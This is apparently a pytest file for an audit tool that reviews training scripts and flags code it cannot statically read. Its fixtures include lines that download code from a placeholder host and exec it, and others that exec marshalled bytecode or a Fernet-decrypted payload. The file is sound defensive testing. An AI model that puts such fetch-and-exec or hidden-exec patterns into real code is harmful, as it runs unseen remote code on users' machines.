"""Code that cannot be read is held for a person; code that merely looks like it is not."""

from __future__ import annotations

import base64
import marshal
import zlib
from pathlib import Path

import pytest

from niblick.audit.review import review

PLAIN = """
import numpy as np
import torch
import torch.nn.functional as F
def main():
    val_tokens = np.fromfile("data/shard_val_000000.bin", dtype=np.uint16)
    val_tokens = torch.from_numpy(val_tokens.astype(np.int64))
    model = torch.nn.Embedding(64, 64)
    nats = torch.zeros(())
    count = torch.zeros(())
    sizes = torch.load("byte_sizes.pt")
    with torch.no_grad():
        for s in range(0, val_tokens.numel() - 1, 64):
            x, y = val_tokens[s:s + 64], val_tokens[s + 1:s + 65]
            nats += F.cross_entropy(model(x)[: y.numel()], y, reduction="sum")
            count += sizes[y].sum()
    print("val_bpb", nats / 0.6931 / count)
"""
CODE = marshal.dumps(compile("print(1)", "x", "exec"))
SEALED = base64.b64encode(zlib.compress(b"print(1)")).decode()
UNREADABLE = {
    "network": (
        "import urllib.request\nexec(urllib.request.urlopen('https://example.org/x.py').read())\n"
    ),
    "network in a function": (
        "import requests\ndef fetch():\n    return requests.get('https://example.org/x').text\n"
        "def start():\n    text = fetch()\n    exec(text)\nstart()\n"
    ),
    "absent file": "exec(open('engine.txt').read())\n",
    "absent file run by path": "import runpy\nrunpy.run_path('engine.py')\n",
    "bytecode": f"import marshal\nexec(marshal.loads({CODE!r}))\n",
    "encryption": (
        "import os\nfrom cryptography.fernet import"
        f" Fernet\nexec(Fernet(os.environ['KEY']).decrypt({SEALED!r}))\n"
    ),
    "unknown codec": f"import codecs, own\nexec(codecs.decode({SEALED!r}, 'own-codec'))\n".replace(
        ", own", ""
    ),
    "outside state": (
        "import secrets\nclass Loader:\n    def exec_module(self, module):\n       "
        " exec(self.payload, module.__dict__)\n"
    ),
}
READABLE = {
    "none": "",
    "packed": f"import base64, zlib\nexec(zlib.decompress(base64.b64decode({SEALED!r})))\n",
    "short template": "for name in ('a', 'b'):\n    exec(f'{name}_size = 1')\n",
    "setting": "import os\nBETAS = eval(os.environ.get('BETAS', '(0.9, 0.95)'))\n",
    "evaluation mode": "import torch\ntorch.nn.Linear(2, 2).eval()\n",
    "compiled model": (
        "import re, torch\nPATTERN = re.compile('a')\nnet = torch.compile(torch.nn.Linear(2, 2))\n"
    ),
    "never reached": (
        "import requests\ndef unused():\n    exec(requests.get('https://example.org/x').text)\n"
    ),
}


def _verdict(folder: Path, opening: str) -> tuple[str, list[str]]:
    script = folder / "train_gpt.py"
    script.write_text(opening + PLAIN + "main()\n", "utf-8")
    report = review(script)
    return report.verdict, [f.evidence for f in report.findings if f.rule == "unreadable"]


@pytest.mark.parametrize("kind", UNREADABLE)
def test_code_that_cannot_be_read_is_held_with_what_and_the_cure(tmp_path: Path, kind: str) -> None:
    verdict, found = _verdict(tmp_path, UNREADABLE[kind])
    assert verdict == "hold_unclear" and found, (verdict, found)


@pytest.mark.parametrize("kind", READABLE)
def test_code_that_can_be_read_is_not_held(tmp_path: Path, kind: str) -> None:
    assert _verdict(tmp_path, READABLE[kind]) == ("clean_neural", [])


def test_a_text_file_of_code_in_the_folder_is_read(tmp_path: Path) -> None:
    (tmp_path / "engine.txt").write_text("import torch\nSIZE = 3\n")
    assert _verdict(tmp_path, "exec(open('engine.txt').read())\n") == ("clean_neural", [])


def test_a_packed_file_of_code_in_the_folder_is_read_too(tmp_path: Path) -> None:
    (tmp_path / "engine.dat").write_bytes(zlib.compress(b"import torch\nSIZE = 3\n"))
    assert _verdict(
        tmp_path, "import zlib\nexec(zlib.decompress(open('engine.dat', 'rb').read()))\n"
    ) == ("clean_neural", [])
